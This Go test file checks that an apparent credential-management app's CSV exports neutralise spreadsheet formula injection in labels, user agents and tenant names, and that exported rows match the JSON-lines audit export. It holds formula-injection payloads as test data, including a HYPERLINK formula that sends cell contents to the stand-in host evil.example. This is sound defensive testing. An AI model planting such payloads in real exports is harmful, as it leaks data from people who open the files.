package handlers_test

// The security regression suite, CSV part (see security_test.go).

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/keyport/keyport/internal/audit"
	"github.com/keyport/keyport/internal/csvsafe"
)

// formulaLeadIns are issue 26's values: each begins a formula (or, tab and
// CR, hides one) in Excel, LibreOffice or Google Sheets.
var formulaLeadIns = []string{"=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"}

// spreadsheetLeadIns are the first characters a spreadsheet evaluates (or
// hides a formula behind), written out here rather than taken from the
// encoder under test.
const spreadsheetLeadIns = "=+-@\t\r\x00"

const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"Open")`

// csvCells reads a CSV body into its header and rows, failing on a body
// that does not parse, and reports every cell a spreadsheet would evaluate.
func csvCells(t *testing.T, name, body string) ([]string, [][]string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(recs) < 2 {
		t.Fatalf("%s does not parse or is empty: %v (%d records)", name, err, len(recs))
	}
	for i, row := range recs[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune(spreadsheetLeadIns, rune(cell[0])) {
				t.Errorf("%s row %d, column %s: %q is a formula to a spreadsheet", name, i+1, recs[0][j], cell)
			}
		}
	}
	return recs[0], recs[1:]
}

// column returns the cells of one column.
func column(header []string, rows [][]string, name string) map[string]bool {
	i := -1
	for j, h := range header {
		if h == name {
			i = j
		}
	}
	out := map[string]bool{}
	for _, r := range rows {
		if i >= 0 {
			out[r[i]] = true
		}
	}
	return out
}

// V1.2.10 (CSV and formula injection): a tenant admin chooses labels and
// their browser's User-Agent, and CXone carries the names of tenants and
// users; both CSVs a reviewer
// downloads make every such cell text, and every row of the audit export
// still recomputes its hash by the documented rule (audit.CheckCSVRecord),
// cell for cell the JSON-lines export once the prefix is stripped. A label
// with a leading tab or CR is refused at the input boundary (422); a name
// with one arrives without it (cxone.Sanitize drops control characters).
func TestCSVExportsMakeFormulasText(t *testing.T) {
	a := newTestApp(t, func(s *testSetup) { s.Options.RateLimit = 1 << 20 })
	ten, admin, _ := tenantUsers(t, a.Sim, "na1", 0)
	var labelled []string
	for _, v := range formulaLeadIns {
		if err := a.Sim.Rename("na1", ten.ID, hyperlink, admin.ID, v); err != nil {
			t.Fatal(err)
		}
		b := a.browser()
		b.connect("na1", ten.ID, admin.ID)
		if v[0] == '\t' || v[0] == '\r' {
			keys := b.get("/keys")
			if p := b.post("/keys", url.Values{"intent": {intentOf(keys)}, "label": {v}}); p.Status != http.StatusUnprocessableEntity {
				t.Errorf("a label starting with %q: %d, want 422 from the input boundary", v[:1], p.Status)
			}
			continue
		}
		b.createdID(v)
		labelled = append(labelled, v)
		req, _ := http.NewRequest(http.MethodGet, a.URL+"/keys", nil)
		req.Header.Set("User-Agent", v) // the trail keeps the browser's own words too
		if p := b.do(req); p.Status != http.StatusOK {
			t.Fatalf("keys with User-Agent %q: %d", v, p.Status)
		}
	}
	addReviewer(t, a, "rita")
	r := a.browser()
	r.signInReviewer("rita")

	creds := r.get("/audit/credentials.csv?gone=all")
	header, rows := csvCells(t, "the credential report", creds.Body)
	labels, creators, tenants := column(header, rows, "label"), column(header, rows, "created_by"), column(header, rows, "tenant_name")
	for _, v := range labelled {
		if !labels["'"+v] || !creators["'"+v] {
			t.Errorf("the credential report lacks label and creator %q as %q: labels %v, creators %v", v, "'"+v, labels, creators)
		}
	}
	if !tenants["'"+hyperlink] {
		t.Errorf("the credential report's tenant names are %v, want %q", tenants, "'"+hyperlink)
	}

	export := r.get("/audit/export.csv")
	header, rows = csvCells(t, "the audit export", export.Body)
	names, agents := column(header, rows, "actor_name"), column(header, rows, "user_agent")
	for _, v := range labelled {
		if !names["'"+v] || !agents["'"+v] {
			t.Errorf("the audit export's actor names are %v and user agents %v, want %q in both", names, agents, "'"+v)
		}
	}
	if !column(header, rows, "tenant_name")["'"+hyperlink] {
		t.Errorf("the audit export lacks the tenant name %q", "'"+hyperlink)
	}
	checkCSVAgainstJSONLines(t, r, header, rows)
}

// checkCSVAgainstJSONLines: every CSV row recomputes its hash by the
// documented rule, and each cell restores to its JSON line's value.
func checkCSVAgainstJSONLines(t *testing.T, r *browser, header []string, rows [][]string) {
	t.Helper()
	jsonl := map[string]map[string]any{}
	sc := bufio.NewScanner(strings.NewReader(r.get("/audit/export.jsonl").Body))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatal(err)
		}
		jsonl[fmt.Sprint(m["id"])] = m
	}
	for _, row := range rows {
		if err := audit.CheckCSVRecord(header, row); err != nil {
			t.Errorf("a CSV row does not recompute by the documented rule: %v", err)
		}
		m := jsonl[row[0]]
		if m == nil {
			continue // exported after the JSON lines were read: the reviewer's own views
		}
		for i, h := range header {
			want := ""
			if m[h] != nil {
				want = fmt.Sprint(m[h])
			}
			if got := csvsafe.Restore(row[i]); got != want {
				t.Errorf("event %s, %s: the CSV restores to %q, the JSON line says %q", row[0], h, got, want)
			}
		}
	}
}
